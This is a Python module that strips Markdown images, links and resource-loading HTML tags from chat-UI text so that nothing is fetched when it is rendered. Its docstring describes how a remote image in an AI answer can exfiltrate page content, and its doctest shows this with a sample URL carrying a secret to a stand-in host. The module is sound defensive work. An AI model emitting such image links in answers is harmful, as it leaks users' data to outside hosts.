"""Text from documents (and from users) shown as Markdown without anything a browser would fetch.

Usage:
    >>> plain_media("See ![](http://evil.example/pixel.png?q=secret) and [the site](http://x.example)")
    'See [image: `http://evil.example/pixel.png?q=secret`] and the site (`http://x.example`)'

A remote image in an answer is the known exfiltration path of chat UIs: the browser loads
it, and its address can carry what the page shows. Answers, passages, drafts and workshop
questions pass through :func:`plain_media` before they are rendered: Markdown images and
links become their text with the address as code (never loaded, never a link), reference
definitions lose their meaning, and HTML tags that load something (``<img>``, ``<iframe>``,
``<video>``, ``<svg>``, ``<link>``, ``<style>`` …) are escaped into text. Citation markers
such as ``[2]`` are untouched.
"""

from __future__ import annotations

import re

_ADDRESS = r"(?:<([^<>\n]*)>|([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*))"
"""A Markdown link destination: in angle brackets (spaces allowed), or with one level of parentheses."""
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^)]*\)))?"""
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*" + _ADDRESS + _TITLE + r"\s*\)")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*" + _ADDRESS + _TITLE + r"\s*\)")
_REFERENCE = re.compile(r"^(\s{0,3})\[([^\]\n]+)\]:", re.M)
_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\]\[([^\]\n]*)\]")
_FETCHING_TAG = re.compile(
    r"<(?=/?\s*(?:img|image|picture|source|video|audio|track|iframe|frame|object|embed|link|svg|"
    r"style|script|meta|base|form|input|body|math)\b)",
    re.I,
)


def _code(address: str) -> str:
    """An address as inline code: shown, never turned into a link."""
    return f"`{address.replace('`', '')}`" if address else ""


def plain_media(text: str) -> str:
    """``text`` with Markdown/HTML images and links made plain text (see the module's notes)."""
    if not text:
        return text or ""

    def address_of(match: re.Match[str]) -> str:
        return match.group(2) if match.group(2) is not None else match.group(3)

    def image(match: re.Match[str]) -> str:
        alt, address = match.group(1).strip(), address_of(match)
        label = f"{alt} " if alt else ""
        return f"[{label}image: {_code(address)}]" if address else alt

    def link(match: re.Match[str]) -> str:
        words, address = match.group(1), address_of(match)
        return f"{words} ({_code(address)})" if address else words

    text = _IMAGE.sub(image, text)
    text = _REF_IMAGE.sub(lambda m: f"{m.group(1)} [image]", text)
    text = _LINK.sub(link, text)
    text = _REFERENCE.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    return _FETCHING_TAG.sub("&lt;", text)
